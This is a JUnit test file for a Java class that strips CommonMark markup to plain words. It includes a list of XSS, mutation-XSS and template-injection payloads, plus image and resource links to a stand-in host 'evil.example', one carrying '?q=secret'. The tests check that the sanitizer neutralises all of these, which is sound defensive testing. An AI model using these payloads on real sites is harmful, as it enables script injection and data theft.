package researchpaas.answer.commonmark;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommonmarkWordsTest {
    private static String words(String marked) {
        return new CommonmarkWords().of(marked);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "One **strong** and *soft* `code`.|One strong and soft code.",
                "__両方__の*測定*は**3回**行った。|両方の測定は3回行った。",
                "測定は**「両方」**の地点で行った。|測定は「両方」の地点で行った。",
                "- first|first",
                "snake_case_name stays|snake_case_name stays",
                "a * b * c|a * b * c",
                "2*3*4|234",
                "1986. A great year|1986. A great year",
                ">5 mg is too much|>5 mg is too much",
                "-5 degrees|-5 degrees",
                "#3 was <5 mg & warm|#3 was <5 mg & warm",
                "one \\*star\\*|one *star*",
            })
    void takesTheMarksOffAndKeepsTheWords(String marked, String words) {
        assertThat(words(marked)).isEqualTo(words);
    }

    @Test
    void keepsAListsNumbers() {
        assertThat(words("7) seven\n8) eight")).isEqualTo("7) seven\n\n8) eight");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "see [the page](https://evil.example/?q=1)",
                "see ![the page](https://evil.example/p.png \"t\")",
                "see [the page][x]\n\n[x]: https://evil.example",
                "see <a href='https://evil.example'>the page</a>",
                "# see the page",
            })
    void takesAwayWhatLeadsElsewhereAndKeepsTheWords(String text) {
        assertThat(words(text)).isEqualTo("see the page");
    }

    static Stream<String> scripts() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java&#x0A;script:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "![x](https://evil.example/?q=secret)",
                "![x\"onerror=alert(1)](y)",
                "<javascript:alert(1)>",
                "<https://evil.example>",
                "[a]: javascript:alert(1)\n\n[a]",
                "`<script>alert(1)</script>`",
                "```\n<script>alert(1)</script>\n```",
                "    <script>alert(1)</script>",
                "```html\" onclick=\"alert(1)\nx\n```",
                "\"><script>alert(1)</script>",
                "'-alert(1)-'",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;img src=x onerror=alert(1)&#62;",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?>",
                "**<b onmouseover=alert(1)>x</b>**",
                "[[${T(java.lang.Runtime).getRuntime()}]]",
                "[(${7*7})]",
                "__${7*7}__::.x",
                "{{7*7}} ${7*7} #{7*7}",
                "</p></main><script>alert(1)</script>",
                "\u202E<script>\u202C",
                "＜script＞alert(1)＜/script＞",
                "<table background=https://evil.example><tr><td>x</table>",
                "<link rel=stylesheet href=//evil.example>",
                "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<base href=//evil.example>",
                "<style>@import '//evil.example'</style>",
                "<form action=//evil.example><button>x</button></form>",
                "<p hx-get=//evil.example hx-trigger=load>x</p>");
    }

    /// What is left is words. Pages write them letter by letter as text, so that what looks like a
    /// tag in them is none; a statement with such letters is shown to nobody anyway.
    @ParameterizedTest
    @MethodSource("scripts")
    void leavesNoAddressThatAMarkLeadsTo(String text) {
        assertThat(words("Before. " + text + "\n\n" + text + "\n\nAfter."))
                .startsWith("Before.")
                .contains("After.")
                .doesNotContain("](", "evil.example/?q", "49");
    }

    @Test
    void takesNoStackForDeepNesting() {
        for (String one : new String[] {"> ", "- ", "*a **", "[", "![", "<b>", "**", "_", "1. "}) {
            assertThat(words(one.repeat(10_000) + "x")).hasSizeLessThan(20_000);
        }
    }
}
